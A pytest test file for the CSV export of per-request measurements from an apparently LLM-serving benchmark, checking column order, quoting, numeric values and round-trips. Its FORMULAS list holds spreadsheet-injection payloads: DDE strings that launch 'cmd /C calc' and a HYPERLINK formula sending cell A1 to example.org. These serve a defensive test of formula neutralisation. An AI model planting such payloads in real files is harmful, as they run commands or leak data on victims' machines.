import csv
import io

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from app.domain.observation import RequestObservation
from app.interop.exports.rows import ARRAYS
from app.spreadsheet import neutral, plain
from tests.factories import make_observation
from tests.interop.evidence import exported, make_evidence, make_run, observations, small_evidence

HEADER = (
    "experiment,block,arm,workload,load,attempt,run_state,run_failure,counted,stratum_length,stratum_task,request_id,"
    "outcome,due_ns,sent_ns,first_byte_ns,end_ns,text,reasoning,tool_calls,finish_reason,prompt_tokens,"
    "completion_tokens,cached_tokens,queue_time_ns,http_status,error,chunks,tokens,lateness_ns,ttft_ns,"
    "ttft_from_sent_ns,e2e_ns,e2e_from_sent_ns,tpot_ns,itl_chunk_mean_ns,itl_chunk_max_ns,itl_token_mean_ns,impossible,"
    "num_spec_steps,num_draft_tokens,num_accepted_draft_tokens,num_rejected_draft_tokens"
)
FORMULAS = (
    '=HYPERLINK("http://example.org/?"&A1,"open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",  # noqa: RUF001  (what is tested)
    '"=1+1"',
    "'=1+1",
)


def rows_of(content: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(content.decode(), newline="")))


def test_the_columns_never_change_their_order() -> None:
    assert exported(small_evidence(), "csv").decode().partition("\r\n")[0] == HEADER


def test_rows_say_where_they_were_measured_and_whether_they_count() -> None:
    void, served, refused = rows_of(exported(small_evidence(), "csv"))
    assert [(r["attempt"], r["run_state"], r["counted"]) for r in (void, served)] == [
        ("1", "FAILED", "false"),
        ("2", "SUCCEEDED", "true"),
    ]
    assert void["run_failure"] == "GENERATOR_LIMITED: the client sent late"
    assert (served["stratum_task"], served["stratum_length"]) == ("copy", "0k")
    # Due at 0, sent at 10 µs, chunks of 1 and 3 tokens at 20 and 50 ms.
    assert (served["lateness_ns"], served["ttft_ns"], served["ttft_from_sent_ns"]) == ("10000", "20000000", "19990000")
    assert (served["e2e_ns"], served["tpot_ns"]) == ("50000000", "10000000.0")
    assert (served["itl_chunk_mean_ns"], served["itl_token_mean_ns"]) == ("30000000.0", "10000000.0")
    assert (served["chunks"], served["tokens"], served["num_rejected_draft_tokens"]) == ("2", "4", "6")
    assert (refused["sent_ns"], refused["ttft_ns"], refused["num_draft_tokens"]) == ("", "", "")


def test_every_scalar_of_an_observation_has_a_column() -> None:
    scalars = set(RequestObservation.model_fields) - {"speculation", *ARRAYS}
    assert scalars <= set(HEADER.split(","))


def test_lines_end_as_rfc_4180_says_and_quotes_are_doubled() -> None:
    content = exported(make_evidence(make_run([make_observation(text='a "b", c\nd')])), "csv")
    assert content.endswith(b"\r\n")
    assert b'"a ""b"", c\nd"' in content


@pytest.mark.parametrize("formula", FORMULAS)
def test_no_text_is_a_formula(formula: str) -> None:
    seen = make_observation(text=formula, error=formula, finish_reason=formula, reasoning=formula)
    (row,) = rows_of(exported(make_evidence(make_run([seen])), "csv"))
    for cell in (row["text"], row["error"], row["finish_reason"], row["reasoning"]):
        assert cell[0] not in "=+-@\t\r\n＝＋－＠"  # noqa: RUF001  (what is tested)
        assert plain(cell) == formula


def test_numbers_stay_numbers() -> None:
    (row,) = rows_of(exported(make_evidence(make_run([make_observation(due_ns=-5)])), "csv"))
    assert (row["due_ns"], row["ttft_ns"]) == ("-5", "20000005")


def test_times_that_contradict_each_other_are_exported_and_said() -> None:
    seen = make_observation(chunk_ns=(50, 20), sent_ns=30)
    (row,) = rows_of(exported(make_evidence(make_run([seen])), "csv"))
    assert row["e2e_from_sent_ns"] == ""
    assert "before it starts" in row["impossible"]


@given(st.text())
def test_a_marked_text_reads_back(text: str) -> None:
    assert plain(neutral(text)) == text


@given(st.lists(observations, min_size=1, max_size=3))
@settings(deadline=None, max_examples=50)
def test_every_cell_reads_back(seen: list[RequestObservation]) -> None:
    rows = rows_of(exported(make_evidence(make_run(seen)), "csv"))
    assert len(rows) == len(seen)
    for row, observation in zip(rows, seen, strict=True):
        for name, value in observation.model_dump(exclude={"speculation", *ARRAYS}).items():
            read = plain(row[name]) if isinstance(value, str) else row[name]
            assert read == ("" if value is None else str(value))
